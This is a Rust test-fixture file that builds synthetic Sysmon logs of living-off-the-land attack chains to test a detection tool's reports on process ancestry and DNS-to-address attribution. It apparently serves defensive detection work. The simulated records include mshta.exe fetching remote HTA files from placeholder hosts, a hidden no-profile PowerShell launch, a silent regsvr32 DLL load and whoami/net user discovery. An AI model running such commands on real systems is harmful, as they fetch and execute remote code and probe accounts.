//! Stories for what a report tells around a finding: who started whom, and which name led to an address.

use crate::synth::story::{Scene, Story};
use crate::sysmon::schema::Layout;

const MSHTA: &str = r"C:\Windows\System32\mshta.exe";

pub(super) fn excluded_name() -> Story {
    let mut scene = Scene::new("ws27.corp.example", 27, Layout::Sysmon15, "2024-03-14T08:00:00Z", 71_000);
    scene.noise(3);
    let installer = scene
        .start(r"C:\Windows\System32\regsvr32.exe", r"regsvr32.exe /s C:\ProgramData\Example\update.dll");
    scene.wait(400);
    scene.query(&installer, "ctldl.windowsupdate.com", "type:  5 cdn.example.net;::ffff:203.0.113.90;");
    scene.wait(100);
    let explained = scene.connect(&installer, "203.0.113.90", 80);
    scene.wait(2_000);
    let other = scene.start(MSHTA, "mshta.exe http://203.0.113.90/a.hta");
    scene.wait(700);
    let unexplained = scene.connect(&other, "203.0.113.90", 80);
    scene.noise(3);
    Story {
        name: "excluded-name",
        tells: "regsvr32.exe asks for ctldl.windowsupdate.com, which the rule excludes, and connects to the address it is given: found, since a \
                connection carries no name, and marked. mshta.exe connects to the same address without having asked: found and not marked.",
        files: vec![scene.live_log("excluded-name/ws27.corp.example")],
        findings: vec![explained, unexplained],
    }
}

pub(super) fn kin() -> Story {
    let mut scene = Scene::new("ws28.corp.example", 28, Layout::Sysmon15, "2024-03-14T10:00:00Z", 88_000);
    scene.noise(3);
    let mail = scene.start(r"C:\Program Files\Example\mail.exe", "mail.exe");
    scene.wait(5_000);
    // Its start is not in the log.
    let console = scene.machine.process(
        r"C:\Windows\System32\cmd.exe",
        r"cmd.exe /c C:\Users\alice\order.bat",
        r"EXAMPLE\alice",
        Some(&mail.process),
    );
    scene.wait(1_000);
    let shell = scene.start_under(
        &console,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -nop -w hidden",
    );
    scene.wait(1_000);
    let script = scene.start_under(
        &shell.process,
        r"C:\Windows\System32\cscript.exe",
        r"cscript.exe C:\Users\alice\order.js",
    );
    scene.wait(1_000);
    let actor = scene.start_under(&script.process, MSHTA, "mshta.exe https://example.net/b.hta");
    scene.wait(1_000);
    let finding = scene.connect(&actor, "203.0.113.128", 443);
    descendants(&mut scene, &actor.process);
    scene.wait(60_000);
    for ended in [&actor, &shell] {
        let end = scene.machine.end(&ended.process);
        scene.records.push(end);
        scene.wait(250);
    }
    Story {
        name: "kin",
        tells: "mail.exe, a cmd.exe whose start is not in the log, powershell.exe, cscript.exe and mshta.exe, which connects: found. mshta.exe starts \
                cmd.exe, that whoami.exe and net.exe, and net.exe net1.exe, which starts one more process: four steps are too far to be told.",
        files: vec![scene.live_log("kin/ws28.corp.example")],
        findings: vec![finding],
    }
}

/// A console, what it runs, and what that runs.
fn descendants(scene: &mut Scene, parent: &crate::synth::sysmon::Process) {
    let console = scene.start_under(parent, r"C:\Windows\System32\cmd.exe", "cmd.exe /q");
    scene.wait(300);
    scene.start_under(&console.process, r"C:\Windows\System32\whoami.exe", "whoami /groups");
    scene.wait(300);
    let net = scene.start_under(&console.process, r"C:\Windows\System32\net.exe", "net user");
    scene.wait(300);
    let inner = scene.start_under(&net.process, r"C:\Windows\System32\net1.exe", "net1 user");
    scene.wait(300);
    scene.start_under(&inner.process, r"C:\Windows\System32\conhost.exe", "conhost.exe 0xffffffff");
}
